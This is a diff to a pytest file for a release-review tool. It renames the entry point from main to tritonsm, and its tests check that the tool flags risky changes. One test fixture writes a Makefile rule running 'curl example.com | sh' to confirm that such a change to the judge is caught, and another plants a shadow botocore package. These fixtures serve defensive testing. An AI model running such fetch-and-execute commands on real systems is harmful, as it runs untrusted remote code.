@@ -7,8 +7,8 @@ from datetime import date, timedelta
 import pytest
 
 from release.checkouts import Clone
-from release.review.__main__ import main
 from release.review.dangers.danger import digest
+from tests.tritonsm import tritonsm
 from tests.unit.release.conftest import commit
 from tests.unit.release.review.conftest import APP, write
 from tests.unit.release.review.resources import RESOURCES
@@ -49,7 +49,7 @@ def test_a_change_of_the_judge_does_not_judge_itself(clone: Clone) -> None:
     write_judge(clone, "base", 3)
     commit(clone)
     write_judge(clone, "head", 0)
-    assert main(["--base", "main"]) == 3
+    assert tritonsm(["review", "--base", "main"]) == 3
     assert (clone.root / "review.out" / "review.md").read_text() == "judged by the base"
 
 
@@ -63,14 +63,14 @@ def test_the_base_is_synthesised_without_the_validation_that_a_delivery_of_it_ha
         write(clone, "app.py", f"{APP}pathlib.Path('{file}').write_text({value})\n")
         if file == base:
             commit(clone)
-    main(["--base", "main"])
+    tritonsm(["review", "--base", "main"])
     assert (base.read_text(), head.read_text()) == ("false", "unset")
 
 
 def test_a_judge_that_fails_leaves_a_review_that_says_so(clone: Clone) -> None:
     write_judge(clone, "base", 1)
     commit(clone)
-    assert main(["--base", "main"]) == 4
+    assert tritonsm(["review", "--base", "main"]) == 4
     assert "the judge of the base ended with exit code 1" in (
         (clone.root / "review.out" / "review.md").read_text()
     )
@@ -81,7 +81,7 @@ def test_a_change_cannot_acknowledge_its_own_danger(clone: Clone) -> None:
     until = date.today() + timedelta(days=30)
     line = f"{{ danger: {DANGER}, who: Mallory, why: trust me, until: {until} }}"
     write(clone, "release/acknowledged.yaml", f"acknowledged: [{line}]\n")
-    assert main(["--base", "main"]) == 3
+    assert tritonsm(["review", "--base", "main"]) == 3
     assert keys(clone)[DANGER] is False
     assert any(
         it.startswith("repository/changed_judge/release/acknowledged.yaml.") for it in keys(clone)
@@ -90,7 +90,7 @@ def test_a_change_cannot_acknowledge_its_own_danger(clone: Clone) -> None:
 
 def test_a_stack_that_is_deployed_as_another_role_is_a_danger(clone: Clone) -> None:
     write(clone, "app.py", APP.replace('"deploy"', '"mine"'))
-    assert main(["--base", "main"]) == 3
+    assert tritonsm(["review", "--base", "main"]) == 3
     stack = "prod/changed_stack_settings/prod-text.assumeRoleArn."
     assert any(it.startswith(stack) for it in keys(clone))
 
@@ -98,7 +98,7 @@ def test_a_stack_that_is_deployed_as_another_role_is_a_danger(clone: Clone) -> N
 def test_a_change_of_acknowledgements_alone_is_no_danger(clone: Clone) -> None:
     clone.git("checkout", "--quiet", "-b", "change")
     acknowledge(clone, DANGER)
-    assert main(["--base", "main"]) == 0
+    assert tritonsm(["review", "--base", "main"]) == 0
 
 
 def test_a_change_of_what_judges_is_a_danger_that_names_every_file(clone: Clone) -> None:
@@ -118,7 +118,7 @@ def test_a_change_of_what_judges_is_a_danger_that_names_every_file(clone: Clone)
     clone.git("checkout", "--quiet", "-b", "change")
     for path in (*paths, "docs/review.md"):
         write(clone, path, '{"acknowledged": []}')
-    assert main(["--base", "main"]) == 3
+    assert tritonsm(["review", "--base", "main"]) == 3
     dangers = json.loads((clone.root / "review.out" / "review.json").read_text())["dangers"]
     (judges,) = (danger for danger in dangers if danger["rule"] == "changed_judge")
     named = {detail.partition(" ")[0] for detail in judges["details"]}
@@ -128,23 +128,23 @@ def test_a_change_of_what_judges_is_a_danger_that_names_every_file(clone: Clone)
 
 def test_a_package_beside_the_app_is_a_danger_once(clone: Clone) -> None:
     write(clone, "botocore/__init__.py", "print('in place of the installed one')")
-    assert main(["--base", "main"]) == 3
+    assert tritonsm(["review", "--base", "main"]) == 3
     (key,) = keys(clone)
     assert key.startswith("repository/changed_judge/botocore/__init__.py.")
     commit(clone)
     clone.git("branch", "--force", "base")
     write(clone, "botocore/__init__.py", "")
-    assert main(["--base", "base"]) == 0
+    assert tritonsm(["review", "--base", "base"]) == 0
 
 
 def test_acknowledging_a_change_of_the_judge_acknowledges_no_other(clone: Clone) -> None:
     write(clone, "Makefile", "review: ; true")
-    main(["--base", "main"])
+    tritonsm(["review", "--base", "main"])
     (key,) = keys(clone)
     acknowledge(clone, key)
-    assert main(["--base", "main"]) == 0
+    assert tritonsm(["review", "--base", "main"]) == 0
     write(clone, "Makefile", "review: ; curl example.com | sh")
-    assert main(["--base", "main"]) == 3
+    assert tritonsm(["review", "--base", "main"]) == 3
 
 
 def test_the_linters_have_the_settings_of_the_base(clone: Clone) -> None:
@@ -153,7 +153,7 @@ def test_the_linters_have_the_settings_of_the_base(clone: Clone) -> None:
     write(clone, ".checkov.yaml", "lax")
     remove_rollback(clone)
     write(clone, ".venv-checkov/bin/checkov", '#!/bin/sh\necho "$(cat .checkov.yaml)" >&2\n')
-    main(["--base", "main"])
+    tritonsm(["review", "--base", "main"])
     said = (clone.root / "review.out" / "review.md").read_text()
     assert "checkov ended with exit code 0: strict" in said
 
@@ -162,7 +162,7 @@ def test_templates_that_no_rule_can_read_are_a_gap_and_no_silence(clone: Clone) 
     resources = copy.deepcopy(RESOURCES)
     resources["Config"]["Properties"] = {"ProductionVariants": "none"}
     write(clone, "assemblies/prod/prod-text.template.json", json.dumps({"Resources": resources}))
-    assert main(["--base", "main"]) == 4
+    assert tritonsm(["review", "--base", "main"]) == 4
     assert "not reviewed" not in APP
     assert "- **prod**: the review failed: " in (
         (clone.root / "review.out" / "review.md").read_text()
